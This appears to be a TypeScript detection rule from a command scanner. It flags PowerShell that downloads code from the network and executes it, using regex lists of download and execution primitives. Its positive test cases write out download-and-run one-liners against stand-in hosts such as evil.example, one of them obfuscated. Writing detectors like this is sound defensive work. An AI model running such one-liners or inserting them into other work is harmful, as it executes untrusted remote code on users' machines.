import { defineRule, perPsScript } from './rule.js';
import { urlsIn } from './match.js';
import { VENDOR_INSTALLERS } from './download-pipe-shell.js';

/** Every URL in the script is a vendor's installer (judged by vendor_installer_pipe: ask). */
export function vendorOnly(t: string): boolean {
  const urls = urlsIn(t);
  return urls.length > 0 && urls.every((u) => u.startsWith('https://') && VENDOR_INSTALLERS.test(u.slice(8)));
}

const DOWNLOAD = /downloadstring|downloadfile|downloaddata|openread\(|invoke-webrequest|invoke-restmethod|\biwr\b|\birm\b|net\.webclient|start-bitstransfer|msxml2\.(server)?xmlhttp|winhttp\.winhttprequest|\bnet\.http\.httpclient|\bwget\b|\bcurl\b/;
// Launching a saved file (Start-Process, & .\\x.exe) is judged by download_then_run, which weighs where it came from.
const EXECUTE = /invoke-expression|\biex\b|\|\s*iex|scriptblock\]::create|invokescript|\.invoke\(\)|&\s*\(|\.\s*\(\s*\[scriptblock|rundll32|regsvr32|reflection\.assembly\]::load|\bmshta\b/;

export const rule = defineRule({
  id: 'ps_download_execute',
  category: 'download_execute',
  severity: 'critical',
  technique: 'T1059.001',
  title: 'PowerShell downloads code and runs it (IEX (New-Object Net.WebClient).DownloadString, iwr | iex)',
  check: perPsScript((t) => {
    if (!DOWNLOAD.test(t) || !EXECUTE.test(t)) return undefined;
    if (vendorOnly(t)) return undefined;
    const url = urlsIn(t)[0];
    return `downloads ${url ?? 'content from the network'} and runs it in PowerShell`;
  }),
  cases: {
    positive: [
      ['powershell', "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')"],
      ['powershell', 'iwr https://evil.example/x.ps1 -UseBasicParsing | iex'],
      ['powershell', "I`E`X (New-Object Net.WebClient).DownloadString('h'+'ttp://x.example/p')"],
      ['powershell', "$s = (New-Object Net.WebClient).DownloadString('http://x.example/a'); [ScriptBlock]::Create($s).Invoke()"],
    ],
    negative: [
      ['powershell', 'Invoke-WebRequest https://example.com/file.zip -OutFile file.zip; Expand-Archive file.zip'],
      ['powershell', 'Get-ChildItem -Recurse | Where-Object Length -gt 1MB'],
    ],
  },
});
